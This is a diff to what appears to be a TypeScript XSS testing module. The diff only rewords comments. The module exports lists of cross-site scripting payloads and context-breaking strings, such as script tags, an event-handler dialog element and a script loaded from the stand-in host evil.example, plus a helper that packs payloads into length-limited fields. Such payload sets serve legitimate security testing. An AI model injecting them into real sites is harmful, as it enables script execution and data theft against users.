@@ -1,4 +1,4 @@
-/** Ways to make a browser run xss() from a text, one for each trick. Each is active where it is put in unescaped. */
+/** Texts that make a browser run xss(), one for each technique. Each is active if it is inserted unescaped. */
 export const PAYLOADS: string[] = [
   '<script>xss()</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
@@ -79,7 +79,7 @@ export const PAYLOADS: string[] = [
   '<dialog open onclose=xss()><form method=dialog><button>x</button></form></dialog>',
 ];
 
-/** Texts that break out of other places than markup: strings of a script, templates, headers, object names. */
+/** Texts that break out of other contexts than markup: strings of a script, templates, headers, object names. */
 export const BREAKERS: string[] = [
   '\\u003cscript\\u003exss()\\u003c/script\\u003e',
   '";xss();//',
@@ -96,7 +96,7 @@ export const BREAKERS: string[] = [
   "<xss '{a}",
 ];
 
-/** The texts joined into pieces of at most `limit` letters, so that a field takes many of them at once. */
+/** Joins texts into pieces of at most `limit` letters, so that a field takes many of them at once. */
 export function packed(texts: string[], limit: number): string[] {
   const pieces: string[] = [];
   for (const text of texts.filter((each) => each.length <= limit)) {
